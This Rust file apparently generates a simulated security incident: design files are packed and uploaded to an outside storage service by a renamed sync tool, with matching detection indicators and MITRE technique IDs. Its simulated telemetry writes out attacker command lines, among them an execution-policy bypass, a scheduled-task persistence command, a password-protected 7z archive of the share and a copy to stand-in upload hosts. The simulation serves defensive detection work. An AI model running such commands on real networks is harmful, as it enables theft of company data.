//! Design data is packed and copied to a storage service by a renamed synchronisation tool. Nothing is destroyed and
//! nothing is stopped; the data is leaving while one looks.

use crate::fleet::Role;
use crate::scenario::{Cast, Scenario, Step, at};
use crate::telemetry::programs::{self as on, Program};
use crate::telemetry::{FileChange, Story};
use crate::threat::{Change, Engine, Threat, indicator};

pub(crate) const SCENARIO: Scenario =
    Scenario { name: "exfiltration", about: "company data is packed and copied to an outside storage service", steps };

fn steps(cast: &mut Cast<'_>) -> Vec<Step> {
    let host = cast.host(Role::Desktop, 4);
    let server = cast.host(Role::FileServer, 0);
    let share = cast.say("設計図面", "Designs");
    let threat = Threat::new(&host, "wuauclt_sync.exe", Engine::Behavioral)
        .path(r"\Device\HarddiskVolume3\ProgramData\Sync\wuauclt_sync.exe")
        .hashed_from("exfiltration sync tool")
        .classified("Infostealer")
        .ran(
            &format!(r"C:\ProgramData\Sync\wuauclt_sync.exe copy \\{server}\{share} box:archive --transfers 16"),
            "powershell.exe",
        )
        .indicator(indicator(
            "InfoStealer",
            "A large amount of data was sent to a storage service.",
            &[44],
            &[("Exfiltration", &["T1567.002"])],
        ))
        .indicator(indicator(
            "InfoStealer",
            "Many documents were read from a network share.",
            &[45],
            &[("Collection", &["T1039", "T1119"])],
        ))
        .told_by(story(cast, &host, &server, share));
    let more = Change::new()
        .indicator(indicator(
            "InfoStealer",
            "Data was packed into encrypted archives.",
            &[46],
            &[("Collection", &["T1560.001"])],
        ))
        .indicator(indicator(
            "InfoStealer",
            "Data was also sent over another encrypted protocol.",
            &[47],
            &[("Exfiltration", &["T1048.002"])],
        ));
    vec![at(0.0).raise("sync", threat), at(5.0).change("sync", more)]
}

/// Files are read from the share, packed, and sent away with a renamed tool that a scheduled task starts again.
fn story(cast: &Cast<'_>, host: &str, server: &str, share: &str) -> Story {
    let mut story = Story::on(host);
    let desktop = story.running(on::EXPLORER);
    let sync = Program::brought("wuauclt_sync.exe", r"C:\ProgramData\Sync\wuauclt_sync.exe", "exfiltration sync tool");
    let shell = story.start(-900.0, desktop, on::POWERSHELL, "powershell.exe -ExecutionPolicy Bypass");
    story.visit(-890.0, shell, "get.synctool.example", "203.0.113.160", 443);
    story.drop(-880.0, shell, &sync);
    let tasks = story.start(
        -860.0,
        shell,
        on::SCHTASKS,
        r"schtasks.exe /create /tn SyncUpdate /sc hourly /tr C:\ProgramData\Sync\wuauclt_sync.exe",
    );
    story.task(-859.5, tasks, "Task Register", r"\SyncUpdate", r"C:\ProgramData\Sync\wuauclt_sync.exe");
    story.end(-859.0, tasks);
    let there = story.running_on(server, on::LSASS);
    story.log_on(-700.0, there, &cast.user(host), "NETWORK", &cast.address(host));
    story.connect(-700.0, shell, &cast.address(server), 445);
    let pack = story.start(
        -690.0,
        shell,
        on::SEVENZIP,
        &format!(r"7z.exe a -pK4n5 -mhe C:\ProgramData\Sync\a.7z \\{server}\{share}"),
    );
    story.file(-600.0, pack, FileChange::Created, r"C:\ProgramData\Sync\a.7z");
    story.end(-590.0, pack);
    let sync = story.start(
        -60.0,
        shell,
        sync,
        &format!(r"C:\ProgramData\Sync\wuauclt_sync.exe copy \\{server}\{share} box:archive --transfers 16"),
    );
    for n in 0..30 {
        let at = -55.0 + f64::from(n) * 4.0;
        story.visit(at, sync, "up.box-archive.example", "203.0.113.171", 443);
    }
    story.connect(3.0, sync, "203.0.113.172", 22);
    story.indicate(-0.5, sync, "InfoStealer", "LargeUpload", "A large amount of data was sent to a storage service.");
    story
}
